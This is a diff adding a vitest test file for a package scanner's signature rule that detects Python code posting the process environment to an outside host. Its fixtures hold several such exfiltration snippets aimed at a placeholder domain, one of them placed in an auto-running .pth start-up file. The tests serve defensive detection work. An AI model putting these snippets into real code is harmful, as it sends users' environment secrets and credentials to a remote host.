@@ -1,0 +1,42 @@
+import { fileURLToPath } from 'node:url';
+import { expect, it } from 'vitest';
+import { completeSet, loadSignatures, scanSignatures } from '../../../src/signatures/index.js';
+import { memoryTree } from '../../support/memory-tree.js';
+import { withLimit } from '../../support/lowered-limit.js';
+
+const signatures = completeSet(
+  await loadSignatures(fileURLToPath(new URL('../../../signatures', import.meta.url))),
+);
+
+async function rulesIn(files: Readonly<Record<string, string>>): Promise<string[]> {
+  const { findings } = await scanSignatures({ tree: memoryTree(files), packages: [], signatures });
+  return findings.map(({ rule }) => rule);
+}
+
+const SENT = 'python/environment-sent';
+const apart = {
+  'pkg/a.py': 'import os\nkept = dict(os.environ)\n',
+  'pkg/b.py': "import requests\nfrom .a import kept\nrequests.post('https://c.example.invalid', json=kept)\n",
+};
+
+it('follows scripts together, and those of large packages alone', async () => {
+  expect(await rulesIn(apart)).toContain(SENT);
+  await withLimit('behaviour-python-together', 10, async () => {
+    expect(await rulesIn(apart)).not.toContain(SENT);
+    expect(
+      await rulesIn({
+        'pkg/c.py': `${apart['pkg/a.py']}import requests\nrequests.post('https://c.example.invalid', json=kept)\n`,
+      }),
+    ).toContain(SENT);
+  });
+});
+
+it('follows lines of start-up files', async () => {
+  const pth = "import os, requests; requests.post('https://c.example.invalid', json=dict(os.environ))";
+  expect(await rulesIn({ 'x.pth': pth })).toContain(SENT);
+});
+
+it('leaves scripts of tests out', async () => {
+  const code = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
+  expect(await rulesIn({ 'pkg/tests/test_a.py': code })).not.toContain(SENT);
+});
